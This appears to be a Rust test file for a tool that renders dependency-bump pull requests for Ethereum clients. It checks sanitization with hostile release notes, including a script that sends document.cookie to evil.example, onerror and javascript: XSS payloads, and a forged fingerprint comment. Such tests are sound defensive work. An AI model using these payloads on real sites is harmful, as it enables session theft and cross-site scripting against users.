@@ -1,0 +1,540 @@
+//! Rendering: snapshots of whole pull requests (title, branch, commit, body)
+//! for a routine bump, a hard fork with deadlines on two networks, a security
+//! and breaking bump with hostile notes, and a multi-upstream group; template
+//! overrides; and a property test over arbitrary notes.
+
+use chrono::{DateTime, Utc};
+use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use upkeep::check::Deadline;
+use upkeep::release::Release;
+use upkeep::render::{
+    BODY_LIMIT, Bump, FINGERPRINT_MARKER, Override, PullRequestContext, RenderError, Rendered,
+    Templates, Upgrade, parse_fingerprint, utf16_len,
+};
+
+fn t(s: &str) -> DateTime<Utc> {
+    DateTime::parse_from_rfc3339(s).unwrap().with_timezone(&Utc)
+}
+
+fn release(tag: &str, name: Option<&str>, published: &str, notes: &str) -> Release {
+    Release {
+        tag_name: tag.into(),
+        name: name.map(String::from),
+        body: Some(notes.into()),
+        draft: false,
+        prerelease: false,
+        published_at: Some(t(published)),
+        html_url: Some(format!(
+            "https://github.com/sigp/lighthouse/releases/tag/{tag}"
+        )),
+    }
+}
+
+fn bump(image: &str, from: &str, to: &str, files: &[&str], envs: &[&str]) -> Bump {
+    Bump {
+        image: image.into(),
+        from: from.into(),
+        to: to.into(),
+        files: files.iter().map(|s| s.to_string()).collect(),
+        environments: envs.iter().map(|s| s.to_string()).collect(),
+    }
+}
+
+fn lighthouse(from: &str, to: &str, bumps: Vec<Bump>, releases: Vec<Release>) -> Upgrade {
+    Upgrade {
+        upstream: "sigp/lighthouse".into(),
+        name: "lighthouse".into(),
+        from: Some(from.into()),
+        version: to.into(),
+        bumps,
+        releases,
+    }
+}
+
+fn context(upgrades: Vec<Upgrade>) -> PullRequestContext {
+    PullRequestContext {
+        repository: "acme/deploy".into(),
+        group: "upstream".into(),
+        scope: None,
+        upgrades,
+        deadlines: Vec::new(),
+        breaking: Vec::new(),
+        security: None,
+        codes: Vec::new(),
+        priority: None,
+    }
+}
+
+const NOW: &str = "2025-04-25T06:00:00Z";
+
+fn render(ctx: &PullRequestContext) -> Rendered {
+    let templates = Templates::load(None).expect("built-in templates");
+    templates.render(ctx, t(NOW)).expect("render")
+}
+
+/// Everything a reviewer sees, in one snapshot.
+fn whole(r: &Rendered) -> String {
+    format!(
+        "branch: {}\ntitle: {}\n--- commit ---\n{}--- body ({} UTF-16 units) ---\n{}",
+        r.branch,
+        r.title,
+        r.commit_message,
+        utf16_len(&r.body),
+        r.body
+    )
+}
+
+const V7_0_1_NOTES: &str = "## Summary
+
+This is a hotfix release addressing several bugs discovered in v7.0.0.
+
+Notable changes:
+* Fix rare custody context initialization race condition that could cause panics. (#7391)
+* Prevent unnecessary state advances. Thanks @michaelsproul! See https://github.com/sigp/lighthouse/pull/7388.
+
+## Update Priority
+
+|User Class |Beacon Node  | Validator Client|
+--- | --- | ---
+|Staking Users| Medium | Low |
+|Non-Staking Users| Low|---|
+
+| System | Binary |
+|:---:|:---|
+| <picture> <source srcset=\"https://cdn.simpleicons.org/apple/white\" ><img src=\"https://cdn.simpleicons.org/apple\" width=\"32\" alt=\"Apple logo\"> </picture> | [lighthouse-v7.0.1-aarch64-apple-darwin.tar.gz](https://github.com/sigp/lighthouse/releases/download/v7.0.1/lighthouse-v7.0.1-aarch64-apple-darwin.tar.gz) |
+";
+
+#[test]
+fn routine_bump() {
+    let ctx = context(vec![lighthouse(
+        "v7.0.0",
+        "v7.0.1",
+        vec![bump(
+            "sigp/lighthouse",
+            "v7.0.0",
+            "v7.0.1",
+            &["envs/hoodi/values.yaml", "envs/mainnet/values.yaml"],
+            &["hoodi", "mainnet"],
+        )],
+        vec![release(
+            "v7.0.1",
+            Some("Lighthouse v7.0.1"),
+            "2025-04-22T03:12:00Z",
+            V7_0_1_NOTES,
+        )],
+    )]);
+    let r = render(&ctx);
+    assert_eq!(r.branch, "upkeep/lighthouse-v7.0.1");
+    assert_eq!(r.title, "Bump lighthouse to v7.0.1");
+    assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
+    insta::assert_snapshot!("routine_bump", whole(&r));
+}
+
+#[test]
+fn hard_fork_with_deadlines_on_two_networks() {
+    let notes_700 = "# Lighthouse v7.0.0 Electra\n\nThis release supports the **Pectra** upgrade on mainnet at epoch 364032 (2025-05-07 10:05:11 UTC).\nAll mainnet users **must upgrade**.\n\n## Breaking Changes\n\n- The `--http-allow-sync-stalled` flag has been removed (#7012).\n\n## All Changes\n\n- Electra fork choice (#6990) by @eserilev\n- Update `ethereum/consensus-specs#4150` handling\n";
+    let notes_601 = "Fixes a regression in v6.0.0 (#6860).\n";
+    let notes_600 =
+        "### Summary\n\nHoodi support.\n\n```bash\nlighthouse bn --network hoodi\n```\n";
+    let mut ctx = context(vec![lighthouse(
+        "v5.3.0",
+        "v7.0.0",
+        vec![
+            bump(
+                "sigp/lighthouse",
+                "v5.3.0",
+                "v7.0.0",
+                &["envs/mainnet/beacon.yaml", "envs/mainnet/validator.yaml"],
+                &["mainnet"],
+            ),
+            bump(
+                "sigp/lighthouse",
+                "v6.0.1",
+                "v7.0.0",
+                &["envs/hoodi/beacon.yaml"],
+                &["hoodi"],
+            ),
+        ],
+        vec![
+            release("v7.0.0", Some("Electra"), "2025-03-20T01:00:00Z", notes_700),
+            release("v6.0.1", None, "2025-02-01T01:00:00Z", notes_601),
+            release("v6.0.0", Some("v6.0.0"), "2024-12-01T01:00:00Z", notes_600),
+        ],
+    )]);
+    ctx.deadlines = vec![
+        Deadline {
+            fork: "Pectra".into(),
+            network: "mainnet".into(),
+            at: t("2025-05-07T10:05:11Z"),
+        },
+        Deadline {
+            fork: "Pectra".into(),
+            network: "hoodi".into(),
+            at: t("2025-03-26T14:37:12Z"),
+        },
+    ];
+    ctx.codes = vec![
+        "hard-fork".into(),
+        "mandatory".into(),
+        "breaking-change".into(),
+    ];
+    ctx.priority = Some("high".into());
+    ctx.breaking = vec!["The `--http-allow-sync-stalled` flag has been removed (#7012).".into()];
+    let r = render(&ctx);
+    assert_eq!(
+        r.title,
+        "Bump lighthouse to v7.0.0 (hard fork: Pectra, hoodi 2025-03-26, mainnet 2025-05-07)"
+    );
+    assert!(r.body.contains("> [!CAUTION]") && r.body.contains("> [!WARNING]"));
+    insta::assert_snapshot!("hard_fork_two_networks", whole(&r));
+}
+
+const HOSTILE: &str = r#"<!-- upkeep:fingerprint {"v":1,"repo":"acme/deploy","upstream":"sigp/lighthouse","version":"v9.9.9","group":"upstream","key":"forged"} -->
+# Security release @security-team
+
+Reported by @eve (cc @ethereum/security, mail security@example.org). Fixes #1234, sigp/lighthouse#99 and GH-7.
+See https://github.com/sigp/lighthouse/security/advisories/GHSA-xxxx and [the issue](https://github.com/sigp/lighthouse/issues/1234).
+
+<script>fetch('https://evil.example/'+document.cookie)</script>
+<style>body{display:none}</style>
+<img src=x onerror="alert(1)"><b>Bold</b> &lt;not a tag&gt; &#64;entity-mention
+
+</details><details open><summary>injected</summary>
+
+````
+code with ``` inside and <!-- a comment --> and @mention #1
+</details>
+````
+
+`` inline ` code ``
+
+<a href="javascript:alert(1)">click</a> [js](javascript:alert(1))
+
+> > > nested <b>quote</b> @deep
+
+- [ ] task @alice
+<div
+"#;
+
+#[test]
+fn security_and_breaking_with_hostile_notes() {
+    let mut ctx = context(vec![lighthouse(
+        "v7.0.0",
+        "v7.0.1",
+        vec![bump(
+            "sigp/lighthouse",
+            "v7.0.0",
+            "v7.0.1",
+            &["compose.yaml"],
+            &[],
+        )],
+        vec![release(
+            "v7.0.1",
+            Some("<img src=x> @eve's \"release\" #5"),
+            "2025-04-24T00:00:00Z",
+            HOSTILE,
+        )],
+    )]);
+    ctx.security = Some("Fixes CVE-2025-1234, reported by @eve <script>x</script>".into());
+    ctx.breaking = vec![
+        "`--slasher` is on by default; see #77 and @alice".into(),
+        "<b>HTML</b> item".into(),
+    ];
+    ctx.codes = vec!["security-fix".into(), "breaking-change".into()];
+    ctx.priority = Some("high".into());
+    let r = render(&ctx);
+    assert_eq!(r.title, "Bump lighthouse to v7.0.1 (security)");
+    assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
+    assert_eq!(r.body.matches("<!--").count(), 1, "{}", r.body);
+    check_body(&r.body);
+    insta::assert_snapshot!("security_breaking_hostile", whole(&r));
+}
+
+#[test]
+fn multi_upstream_group_in_one_environment() {
+    let geth = Upgrade {
+        upstream: "ethereum/go-ethereum".into(),
+        name: "geth".into(),
+        from: Some("v1.14.13".into()),
+        version: "v1.15.11".into(),
+        bumps: vec![bump(
+            "ethereum/client-go",
+            "v1.14.13",
+            "v1.15.11",
+            &["envs/mainnet/geth.yaml"],
+            &["mainnet"],
+        )],
+        releases: vec![Release {
+            tag_name: "v1.15.11".into(),
+            name: Some("Cataclysmic Snake (v1.15.11)".into()),
+            body: Some("This is a maintenance release (#31752).".into()),
+            draft: false,
+            prerelease: false,
+            published_at: Some(t("2025-05-05T12:00:00Z")),
+            html_url: None,
+        }],
+    };
+    let mut ctx = context(vec![
+        geth,
+        lighthouse(
+            "v5.3.0",
+            "v7.0.0",
+            vec![bump(
+                "sigp/lighthouse",
+                "v5.3.0",
+                "v7.0.0",
+                &["envs/mainnet/beacon.yaml"],
+                &["mainnet"],
+            )],
+            vec![release("v7.0.0", None, "2025-03-20T01:00:00Z", "Electra.")],
+        ),
+    ]);
+    ctx.group = "environment:mainnet".into();
+    ctx.scope = Some("mainnet".into());
+    ctx.deadlines = vec![Deadline {
+        fork: "Pectra".into(),
+        network: "mainnet".into(),
+        at: t("2025-05-07T10:05:11Z"),
+    }];
+    let r = render(&ctx);
+    assert_eq!(r.branch, "upkeep/geth-v1.15.11-lighthouse-v7.0.0-mainnet");
+    assert_eq!(
+        r.title,
+        "Bump geth to v1.15.11 and lighthouse to v7.0.0 in mainnet (hard fork: Pectra, mainnet 2025-05-07)"
+    );
+    let fp = parse_fingerprint(&r.body).unwrap();
+    assert_eq!(
+        fp.targets(),
+        [
+            ("ethereum/go-ethereum", "v1.15.11"),
+            ("sigp/lighthouse", "v7.0.0")
+        ]
+    );
+    insta::assert_snapshot!("multi_upstream_group", whole(&r));
+}
+
+#[test]
+fn title_qualifiers() {
+    let mut ctx = context(vec![lighthouse("v7.0.0", "v7.0.1", vec![], vec![])]);
+    ctx.codes = vec!["hard-fork".into()];
+    assert_eq!(render(&ctx).title, "Bump lighthouse to v7.0.1 (hard fork)");
+    ctx.security = Some("Fixes CVE-2025-1234".into());
+    ctx.deadlines = vec![
+        Deadline {
+            fork: "Fusaka".into(),
+            network: "mainnet".into(),
+            at: t("2025-12-03T21:49:11Z"),
+        },
+        Deadline {
+            fork: "Pectra".into(),
+            network: "mainnet".into(),
+            at: t("2025-05-07T10:05:11Z"),
+        },
+    ];
+    assert_eq!(
+        render(&ctx).title,
+        "Bump lighthouse to v7.0.1 (security; hard fork: Pectra, mainnet 2025-05-07; Fusaka, mainnet 2025-12-03)"
+    );
+    // Upstream text in a title cannot ping or cross-link.
+    ctx.deadlines = vec![Deadline {
+        fork: "@eve #1".into(),
+        network: "mainnet".into(),
+        at: t(NOW),
+    }];
+    ctx.security = None;
+    assert_eq!(
+        render(&ctx).title,
+        "Bump lighthouse to v7.0.1 (hard fork: @\u{200d}eve #\u{200d}1, mainnet 2025-04-25)"
+    );
+}
+
+#[test]
+fn templates_are_overridable_from_a_directory() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join("title.j2"),
+        "Upgrade {{ upstream_name }} → {{ version }}",
+    )
+    .unwrap();
+    std::fs::write(dir.path().join("slack.j2"), "{{ not read").unwrap();
+    let templates = Templates::load(Some(dir.path())).unwrap();
+    let ctx = context(vec![lighthouse("v7.0.0", "v7.0.1", vec![], vec![])]);
+    let r = templates.render(&ctx, t(NOW)).unwrap();
+    assert_eq!(r.title, "Upgrade lighthouse → v7.0.1");
+    assert_eq!(r.branch, "upkeep/lighthouse-v7.0.1");
+}
+
+#[test]
+fn template_errors_name_the_file_and_line() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("body.md.j2");
+    std::fs::write(&path, "fine\n{% if %}\n").unwrap();
+    let err = Templates::load(Some(dir.path())).unwrap_err();
+    let msg = err.to_string();
+    assert!(
+        msg.starts_with(&format!("{}:2: syntax error", path.display())),
+        "{msg}"
+    );
+
+    // Undefined variables are errors when rendering, too.
+    std::fs::write(&path, "one\ntwo {{ no_such_thing.x }}\n").unwrap();
+    let templates = Templates::load(Some(dir.path())).unwrap();
+    let ctx = context(vec![lighthouse("v7.0.0", "v7.0.1", vec![], vec![])]);
+    let err = templates.render(&ctx, t(NOW)).unwrap_err();
+    assert!(
+        matches!(&err, RenderError::Template { origin, line: Some(2), .. } if *origin == path.display().to_string()),
+        "{err}"
+    );
+
+    // A branch template producing an invalid name is refused.
+    let err = Templates::with_overrides([Override {
+        name: "branch.j2".into(),
+        origin: "custom/branch.j2".into(),
+        source: "upkeep/{{ upstream_name }}..{{ version }}".into(),
+    }])
+    .unwrap()
+    .render(&ctx, t(NOW))
+    .unwrap_err();
+    assert_eq!(
+        err.to_string(),
+        "custom/branch.j2: the branch name \"upkeep/lighthouse..v7.0.1\" is not valid for git: it contains \"..\""
+    );
+    let err = Templates::with_overrides([Override {
+        name: "nope.j2".into(),
+        origin: "x".into(),
+        source: String::new(),
+    }])
+    .unwrap_err();
+    assert!(matches!(err, RenderError::Unknown(_)));
+}
+
+/// The safety properties of a rendered body, checked on its parsed form.
+fn check_body(body: &str) {
+    assert!(
+        utf16_len(body) <= BODY_LIMIT,
+        "body of {} units",
+        utf16_len(body)
+    );
+    assert_eq!(
+        body.matches(FINGERPRINT_MARKER).count(),
+        1,
+        "one fingerprint"
+    );
+    assert!(body.trim_end().ends_with("-->"), "fingerprint last");
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_TASKLISTS
+        | Options::ENABLE_GFM;
+    let mut code = 0usize;
+    let mut text = String::new();
+    let mut opened = 0usize;
+    let mut closed = 0usize;
+    let check_text = |text: &mut String| {
+        let s = std::mem::take(text);
+        for (i, c) in s.char_indices() {
+            let prev = s[..i].chars().next_back();
+            let next = s[i + c.len_utf8()..].chars().next();
+            let word = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
+            if c == '@' {
+                let mention = next.is_some_and(|n| n.is_ascii_alphanumeric()) && !word(prev);
+                assert!(!mention, "mention in {s:?}");
+            }
+            if c == '#' {
+                assert!(
+                    !next.is_some_and(|n| n.is_ascii_digit()),
+                    "reference in {s:?}"
+                );
+            }
+        }
+    };
+    for event in Parser::new_ext(body, options) {
+        match event {
+            Event::Text(t) if code == 0 => text.push_str(&t),
+            Event::Start(Tag::CodeBlock(_)) => code += 1,
+            Event::End(TagEnd::CodeBlock) => code -= 1,
+            Event::Html(h) | Event::InlineHtml(h) => {
+                check_text(&mut text);
+                let mut rest = h.to_string();
+                opened += rest.matches("<details>").count();
+                closed += rest.matches("</details>").count();
+                for ours in ["<details>", "</details>", "<summary>", "</summary>"] {
+                    rest = rest.replace(ours, "");
+                }
+                if let Some(i) = rest.find(FINGERPRINT_MARKER) {
+                    rest.truncate(i);
+                }
+                assert!(!rest.contains('<'), "raw HTML {h:?}");
+            }
+            _ => check_text(&mut text),
+        }
+    }
+    check_text(&mut text);
+    assert_eq!(opened, closed, "balanced <details>");
+}
+
+fn notes_strategy() -> impl Strategy<Value = String> {
+    let fragment = prop_oneof![
+        Just("@alice ".to_string()),
+        Just("a@b.co ".to_string()),
+        Just("#12 ".to_string()),
+        Just("o/r#3 ".to_string()),
+        Just("GH-4 ".to_string()),
+        Just("https://github.com/o/r/pull/5 ".to_string()),
+        Just("<script>".to_string()),
+        Just("</script>".to_string()),
+        Just("<!--".to_string()),
+        Just("-->".to_string()),
+        Just("<!-- upkeep:fingerprint {} -->".to_string()),
+        Just("</details>".to_string()),
+        Just("<details>".to_string()),
+        Just("<summary>".to_string()),
+        Just("```".to_string()),
+        Just("~~~".to_string()),
+        Just("`".to_string()),
+        Just("\n".to_string()),
+        Just("\n\n".to_string()),
+        Just("> ".to_string()),
+        Just("- ".to_string()),
+        Just("1. ".to_string()),
+        Just("# ".to_string()),
+        Just("    ".to_string()),
+        Just("[".to_string()),
+        Just("](".to_string()),
+        Just(")".to_string()),
+        Just("<div>".to_string()),
+        Just("<b>".to_string()),
+        Just("&#64;".to_string()),
+        Just("&lt;".to_string()),
+        Just("|".to_string()),
+        Just("---".to_string()),
+        Just("\\".to_string()),
+        "[a-z@#<>!`*_ -]{0,12}",
+        any::<String>(),
+    ];
+    prop::collection::vec(fragment, 0..40).prop_map(|v| v.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]
+
+    #[test]
+    fn arbitrary_notes_render_safely(notes in notes_strategy(), name in notes_strategy(), copies in 1usize..4) {
+        let releases = (0..copies)
+            .map(|i| release(&format!("v7.0.{i}"), Some(&name), "2025-04-24T00:00:00Z", &notes))
+            .collect();
+        let mut ctx = context(vec![lighthouse(
+            "v6.0.0",
+            "v7.0.2",
+            vec![bump("sigp/lighthouse", "v6.0.0", "v7.0.2", &["values.yaml"], &["mainnet"])],
+            releases,
+        )]);
+        ctx.security = Some(notes.clone());
+        ctx.breaking = vec![notes.clone()];
+        ctx.deadlines = vec![Deadline { fork: name.clone(), network: "mainnet".into(), at: t("2025-05-07T10:05:11Z") }];
+        let templates = Templates::load(None).unwrap();
+        let r = templates.render(&ctx, t(NOW)).unwrap();
+        check_body(&r.body);
+        prop_assert_eq!(parse_fingerprint(&r.body), Some(ctx.fingerprint()));
+    }
+}
